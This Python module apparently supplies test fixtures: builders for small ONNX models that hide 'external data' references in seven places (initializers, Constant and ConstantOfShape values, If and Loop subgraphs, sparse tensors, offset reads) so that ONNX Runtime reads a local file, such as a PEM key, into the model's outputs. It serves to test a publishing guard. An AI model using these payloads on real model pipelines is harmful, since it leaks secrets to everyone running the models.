"""Tiny ONNX models that ask ONNX Runtime to read a file: one builder per place external data can hide.

Each model takes ``x`` (float32 [1, N]) and answers ``x + bytes``, where the
bytes come from "external data" at ``location`` (a path relative to the
process's working directory, as ONNX Runtime resolves it for a model loaded
from bytes).  Run unguarded, the smoke-test outputs computed at publish
carry the file's bytes to every car.  All of them pass ``onnx.checker``.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

N = 11  # bytes each model tries to read


def external_tensor(name: str, location: str, *, n: int = N, offset: int | None = None) -> TensorProto:
    """A uint8 [n] tensor whose bytes live in ``location`` (from ``offset``), not in the model."""
    t = TensorProto(name=name, data_type=TensorProto.UINT8, dims=[n], data_location=TensorProto.EXTERNAL)
    entries = [("location", location), *([("offset", str(offset))] if offset is not None else []), ("length", str(n))]
    for key, value in entries:
        e = t.external_data.add()
        e.key, e.value = key, value
    return t


def _model(nodes: list[onnx.NodeProto], *, initializers: list[TensorProto] | None = None,
           sparse: list[onnx.SparseTensorProto] | None = None) -> bytes:
    """``y = x + float(leak)``: the graph's nodes must produce a uint8 [N] tensor named ``leak``."""
    nodes = [*nodes, helper.make_node("Cast", ["leak"], ["leak_f"], to=TensorProto.FLOAT),
             helper.make_node("Add", ["x", "leak_f"], ["y"])]
    graph = helper.make_graph(nodes, "leak", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, N])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, N])],
                              initializer=initializers or [], sparse_initializer=sparse or [])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


def top_level_initializer(location: str) -> bytes:
    return _model([helper.make_node("Identity", ["w"], ["leak"])], initializers=[external_tensor("w", location)])


def constant_attribute(location: str) -> bytes:
    return _model([helper.make_node("Constant", [], ["leak"], value=external_tensor("c", location))])


def constant_of_shape(location: str) -> bytes:
    """ConstantOfShape's one-element ``value`` read from the file (leaks one byte, N times)."""
    shape = numpy_helper.from_array(np.array([N], dtype=np.int64), "shape")
    return _model([helper.make_node("ConstantOfShape", ["shape"], ["leak"], value=external_tensor("v", location, n=1))],
                  initializers=[shape])


def if_subgraph_initializer(location: str) -> bytes:
    """An ``If`` whose taken branch returns an initializer of its own subgraph, read from the file."""
    out = [helper.make_tensor_value_info("branch_out", TensorProto.UINT8, [N])]
    then = helper.make_graph([helper.make_node("Identity", ["secret"], ["branch_out"])], "then", [], out,
                             initializer=[external_tensor("secret", location)])
    zeros = numpy_helper.from_array(np.zeros(N, dtype=np.uint8), "zeros")
    other = helper.make_graph([helper.make_node("Identity", ["zeros"], ["branch_out"])], "else", [], out,
                              initializer=[zeros])
    cond = helper.make_node("Constant", [], ["cond"], value=numpy_helper.from_array(np.array(True), "t"))
    return _model([cond, helper.make_node("If", ["cond"], ["leak"], then_branch=then, else_branch=other)])


def loop_body_constant(location: str) -> bytes:
    """A one-trip ``Loop`` whose body's ``Constant`` is read from the file."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node("Constant", [], ["v_out"], value=external_tensor("body_c", location))],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.UINT8, [N])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.UINT8, [N])])
    inits = [numpy_helper.from_array(np.array(1, dtype=np.int64), "trips"),
             numpy_helper.from_array(np.array(True), "go"),
             numpy_helper.from_array(np.zeros(N, dtype=np.uint8), "v0")]
    return _model([helper.make_node("Loop", ["trips", "go", "v0"], ["leak"], body=body)], initializers=inits)


def sparse_initializer(location: str) -> bytes:
    """A sparse initializer whose values are read from the file."""
    indices = numpy_helper.from_array(np.arange(N, dtype=np.int64), "w_indices")
    sparse = helper.make_sparse_tensor(external_tensor("w", location), indices, [N])
    return _model([helper.make_node("Identity", ["w"], ["leak"])], sparse=[sparse])


def offset_and_length(location: str) -> bytes:
    """A ``Constant`` reading N bytes from the middle of the file (offset 11: past "-----BEGIN ")."""
    return _model([helper.make_node("Constant", [], ["leak"], value=external_tensor("c", location, offset=11))])


#: Every way in, by name: the builders take the location to read.
VARIANTS: dict[str, Callable[[str], bytes]] = {
    "top-level initializer": top_level_initializer,
    "Constant attribute": constant_attribute,
    "ConstantOfShape value": constant_of_shape,
    "If-subgraph initializer": if_subgraph_initializer,
    "Loop-body Constant": loop_body_constant,
    "sparse initializer": sparse_initializer,
    "offset and length": offset_and_length,
}


def embedded_model() -> bytes:
    """The same graph with its bytes inside the model: what a publisher should upload."""
    value = numpy_helper.from_array(np.arange(N, dtype=np.uint8), "c")
    return _model([helper.make_node("Constant", [], ["leak"], value=value)])
